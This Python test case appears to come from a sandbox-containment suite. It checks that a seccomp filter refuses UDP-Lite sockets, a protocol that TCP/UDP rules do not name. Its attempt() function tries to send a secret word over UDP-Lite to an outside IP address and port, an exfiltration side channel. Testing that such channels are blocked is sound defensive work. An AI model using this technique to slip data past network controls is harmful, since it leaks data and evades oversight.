"""Datagrams of UDP's lesser known relative.

UDP-Lite has its own protocol number (136): rules for TCP and UDP do not name it. SCTP and DCCP are of
the same kind, on kernels that have them.

Layers: seccomp, with a record; without it the packet goes no further than the room.

Not covered: SCTP and DCCP, where the kernel has no such sockets; the filter refuses all but TCP and UDP.
"""

import socket

ATTACK = {
    "title": "UDP-Lite",
    "group": "roads",
    "layer": "seccomp",
    "risk": "exfiltration",
    "references": ["RFC 3828", "udplite(7)", "ATT&CK T1095"],
    "arrives": [{"what": "packet", "protocol": "136"}],
    "stopped": [
        {
            "reason": ["socket-family-refused"],
            "entry": ["socket"],
            "layer": ["seccomp"],
            "where": {"call": "socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE)"},
            "seen": ["EPROTONOSUPPORT"],
        }
    ],
    "needs": ["udp-lite"],
}


def attempt(kit):
    def send():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as sender:
            return sender.sendto(kit.word.encode(), ("93.184.216.66", 9000))

    kit.do("udp-lite", send)
